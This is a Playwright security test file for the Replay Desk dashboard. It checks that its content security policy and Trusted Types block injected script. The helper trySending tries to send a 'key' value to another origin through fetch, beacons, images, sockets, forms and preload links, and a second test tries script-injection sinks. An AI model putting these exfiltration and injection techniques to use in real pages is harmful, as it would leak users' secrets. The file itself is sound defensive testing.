import { readdirSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import type { Page } from '@playwright/test'
import { createDashboard } from '../scripts/dashboard.ts'
import { listen } from '../demo/host/listen.ts'
import { demoKeys, expect, test } from './desk.ts'

const dist = fileURLToPath(new URL('../dist', import.meta.url))

/** What script injected into the page could try, so that data reaches another origin. */
function trySending(page: Page, elsewhere: string): Promise<string[]> {
  return page.evaluate(async (origin) => {
    const reached: string[] = []
    const attempt = async (name: string, send: () => unknown) => {
      try {
        await send()
        reached.push(name)
      } catch {
        // refused
      }
    }
    await attempt('fetch', () => fetch(`${origin}/fetch?key`, { mode: 'no-cors' }))
    navigator.sendBeacon(`${origin}/beacon?key`) // says that it was sent even where it isn't
    const opened = (source: EventTarget, good: string) =>
      new Promise((resolve, reject) => {
        source.addEventListener(good, resolve)
        source.addEventListener('error', reject)
      })
    await attempt('picture', () => opened(Object.assign(new Image(), { src: `${origin}/picture?key` }), 'load'))
    await attempt('events', () => opened(new EventSource(`${origin}/events?key`), 'open'))
    await attempt('socket', () => opened(new WebSocket(`${origin.replace('http', 'ws')}/socket?key`), 'open'))
    const worker = [...performance.getEntriesByType('resource')].find(({ name }) => name.endsWith('.js'))?.name ?? ''
    await attempt('worker', () => new Worker(worker))
    const frame = Object.assign(document.createElement('iframe'), { src: `${origin}/frame?key` })
    document.body.append(frame)
    const form = Object.assign(document.createElement('form'), { action: `${origin}/form?key`, target: frame.name })
    document.body.append(form)
    form.submit()
    for (const rel of ['preload', 'prefetch', 'stylesheet', 'modulepreload', 'icon']) {
      document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: `${origin}/${rel}?key` }))
    }
    await new Promise((resolve) => {
      setTimeout(resolve, 500)
    })
    return reached
  }, elsewhere)
}

/** What the worker of requests answers to injected code that asks it for a call that Replay Desk makes. */
function askWorker(page: Page, host: string): Promise<string> {
  const file = readdirSync(`${dist}/assets`).find((name) => name.startsWith('requestWorker-'))
  return page.evaluate(
    async ([address = '', url]) => {
      const { port } = new SharedWorker(address, { type: 'module', name: 'requests' })
      const request = {
        connectionId: 'x',
        url,
        method: 'GET',
        cache: 'no-store',
        key: 'phx_demo',
        isReadOnly: true,
        isStreamed: false,
      }
      return new Promise<string>((resolve) => {
        port.addEventListener('message', ({ data }: MessageEvent<{ type: string; id?: number; reason?: string }>) => {
          if (data.id === 987) resolve(data.reason ?? data.type)
        })
        port.start()
        port.postMessage({ type: 'request', id: 987, request })
      })
    },
    [`/assets/${file}`, `${host}/api/users/@me/`],
  )
}

test('with a preset host the page reaches that host and nothing else, whatever runs in it', async ({ page, desk }) => {
  desk.expectComplaint(/Content.Security.Policy|Trusted|violates|ERR_FAILED|Failed to load/i)
  const reached: string[] = []
  const elsewhere = await listen((request) => {
    reached.push(request.url)
    return new Response('')
  }, 0)
  const dashboard = await listen(createDashboard(dist, { host: desk.demo.origin }).fetch, 0)
  desk.origins.add(dashboard.origin)
  desk.origins.add(elsewhere.origin) // refused requests are counted as well; the server there says whether one came
  await test.step('the host is filled in and can’t be changed', async () => {
    await page.goto(`${dashboard.origin}/connect`)
    await expect(page.getByLabel('Host')).toHaveValue(desk.demo.origin)
    await expect(page.getByLabel('Host')).not.toBeEditable()
    await expect(page.getByRole('button', { name: 'EU Cloud' })).toHaveCount(0)
    await page.getByLabel('Personal API key').fill(demoKeys.all)
    await page.getByLabel('On this device, unencrypted').check()
    await page.getByLabel('Project').fill('1')
    await page.getByRole('button', { name: 'Connect', exact: true }).click()
    await expect(page.getByRole('heading', { level: 1, name: 'Overview' })).toBeVisible()
  })
  await test.step('nothing reaches another origin', async () => {
    expect(await trySending(page, elsewhere.origin)).toEqual([])
    expect(await askWorker(page, desk.demo.origin)).toBe('response')
    expect(await askWorker(page, elsewhere.origin)).toBe('network')
    expect(reached).toEqual([])
  })
  await elsewhere.close()
  await dashboard.close()
})

test('no text becomes HTML, code or a script, and only the app’s own workers start', async ({ page, desk }) => {
  desk.expectComplaint(/Trusted|Content.Security.Policy/)
  await desk.exploreDemo()
  const done = await page.evaluate(() => {
    const attempts: Record<string, () => unknown> = {
      'inner HTML': () => (document.createElement('div').innerHTML = '<b>x</b>'),
      parser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
      'document of a frame': () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
      'address of a script': () => Object.assign(document.createElement('script'), { src: '/assets/x.js' }),
      'text of a script': () => Object.assign(document.createElement('script'), { text: 'x' }),
      handler: () => document.createElement('div').setAttribute('onclick', 'x'),
      // oxlint-disable-next-line no-implied-eval -- what injected code would do
      timer: () => setTimeout('x', 0),
      'worker of another file': () => new Worker('/icon.svg'),
      'worker from text': () => new Worker(URL.createObjectURL(new Blob(['x']))),
      'worker of another origin': () => new Worker('https://other.example/assets/replayWorker-x.js'),
      'another policy': () => globalThis.trustedTypes?.createPolicy('mine', { createScriptURL: (url) => url }),
    }
    return Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        attempt()
        return [name]
      } catch {
        return []
      }
    })
  })
  expect(done).toEqual([])
})
